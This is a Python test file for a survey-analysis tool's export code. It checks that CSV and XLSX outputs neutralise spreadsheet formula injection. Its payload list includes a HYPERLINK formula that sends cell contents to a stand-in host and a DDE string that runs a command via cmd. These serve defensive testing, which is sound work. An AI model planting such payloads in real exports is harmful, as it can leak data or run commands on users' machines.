"""Formula neutralising (product.md §6): no CSV or XLSX we write can run a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from regiekompas.cli.main import main
from regiekompas.core.export.safe import PREFIX, TRIGGERS, neutralise
from regiekompas.core.io import write_table, write_workbook

PAYLOADS = ["=HYPERLINK(\"https://x.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


def runs_as_formula(text: str) -> bool:
    """What a spreadsheet would treat as a formula (product.md §6): a trigger, not a number."""
    return text.startswith(TRIGGERS) and neutralise(text) != text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_gets_an_apostrophe(payload: str) -> None:
    assert neutralise(payload) == PREFIX + payload


@pytest.mark.parametrize("number", ["-0.5", "+3", "-1", "-2,5", "1e3", -7, 0.25])
def test_numbers_stay_as_they_are(number: object) -> None:
    assert neutralise(number) == number


@given(st.text())
def test_no_neutralised_text_starts_with_a_trigger(text: str) -> None:
    safe = neutralise(text)
    assert not safe.startswith(TRIGGERS) or neutralise(safe) == safe
    assert safe in (text, PREFIX + text)


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def _xlsx_cells(path: Path) -> list[tuple[object, str]]:
    book = load_workbook(path)
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_the_table_writers_neutralise_every_cell(tmp_path: Path) -> None:
    rows = [[payload, -0.5, "-1"] for payload in PAYLOADS]
    write_table(tmp_path / "t.csv", ["a", "b", "c"], rows)
    write_workbook(tmp_path / "t.xlsx", {"t": (["a", "b", "c"], rows)})
    cells = _csv_cells(tmp_path / "t.csv")
    assert not [c for c in cells if runs_as_formula(c)]
    assert '\'=HYPERLINK("https://x.example/?"&A1)' in cells
    assert cells.count("-0.5") == len(PAYLOADS)  # numbers untouched
    xlsx = _xlsx_cells(tmp_path / "t.xlsx")
    assert not [v for v, t in xlsx if t == "f" or (isinstance(v, str) and runs_as_formula(v))]


def test_analyse_csv_and_xlsx_hold_no_live_formula(tmp_path: Path) -> None:
    """`regiekompas analyse --csv/--xlsx` with formula payloads in names that reach outputs:
    an organisation (the aanbieders table) and the region's name (the regio table)."""
    region = tmp_path / "regio"
    assert main(["simulate", str(region), "--gemeenten", "3", "--respondenten", "20"]) == 0
    with (region / "organisaties.csv").open(encoding="utf-8", newline="") as stream:
        organisation = list(csv.reader(stream))[1][0]
    with (region / "gemeenten.csv").open(encoding="utf-8", newline="") as stream:
        regio = list(csv.reader(stream))[1][2]
    for path in region.iterdir():
        text = path.read_text(encoding="utf-8")
        text = text.replace(organisation, "=HYPERLINK(1)").replace(regio, "@regio")
        path.write_text(text, encoding="utf-8")
    out_csv, out_xlsx = tmp_path / "csv", tmp_path / "uit.xlsx"
    code = main(["analyse", str(region), "--csv", str(out_csv), "--xlsx", str(out_xlsx),
                 "--bootstrap", "20", "--stil"])  # fmt: skip
    assert code == 0
    csv_cells = [c for path in sorted(out_csv.iterdir()) for c in _csv_cells(path)]
    # The payloads did get through, neutralised ...
    assert "'=HYPERLINK(1)" in csv_cells
    assert "'@regio" in csv_cells
    # ... and nothing else can run either.
    assert not [c for c in csv_cells if runs_as_formula(c)]
    xlsx = _xlsx_cells(out_xlsx)
    assert ("'=HYPERLINK(1)", "s") in xlsx
    assert not [v for v, t in xlsx if t == "f" or (isinstance(v, str) and runs_as_formula(v))]
